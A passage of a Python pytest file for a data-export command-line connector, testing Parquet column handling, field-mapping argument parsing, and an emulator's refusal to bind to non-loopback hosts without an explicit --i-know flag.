    assert "profiles.csv" in err and "not a readable CSV file" in err


def test_a_parquet_column_named_file_row_number_exports_exactly(env: Env, capsys) -> None:
    env.add_destination("news")
    columns = {**COLUMNS, "file_row_number": list(range(len(COLUMNS["email"])))}
    sink = io.BytesIO()
    pq.write_table(pa.table(columns), sink)
    use_source(env, "profiles.parquet", sink.getvalue())
    summary = exported(env, capsys, "--segment", "everyone")
    assert summary["status"] == "succeeded", summary
    assert env.members("news") == INTENDED


# -- the command line itself ------------------------------------------------------------


def test_field_column_pairs_are_accepted_after_options(env: Env, capsys) -> None:
    env.add_destination("news")
    capsys.readouterr()
    code = run_cli(
        main, "map", "news", "--replace", "--workspace", str(env.workspace), "email=email",
        "--consent-column", "email_opt_in", "first_name=first_name",
    )  # fmt: skip
    out, err = capsys.readouterr()
    assert code == 0, err
    assert "first_name" in out
    mapping = History(history_path(env.state_dir)).get_mapping(
        History(history_path(env.state_dir)).get_destination("news").id
    )
    assert mapping.email == "email" and mapping.reserved == {"first_name": "first_name"}
    assert run_cli(main, "map", "news", "--no-such-option") == 2  # still refused


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "192.168.1.10", "localhost.evil.example"])
def test_the_emulator_refuses_a_reachable_host_without_i_know(
    capsys, monkeypatch: pytest.MonkeyPatch, host: str
) -> None:
    started: list[str] = []
    import connector.emulator

    monkeypatch.setattr(connector.emulator, "run_emulator", lambda host, **_: started.append(host))
    capsys.readouterr()
    assert run_cli(main, "emulator", "--host", host) == 2
    assert started == []
    assert "--i-know" in capsys.readouterr().err
    assert run_cli(main, "emulator", "--host", host, "--i-know") == 0
    assert started == [host]
    assert "WARNING" in capsys.readouterr().err
    assert run_cli(main, "emulator", "--host", "127.0.0.1") == 0  # loopback as before
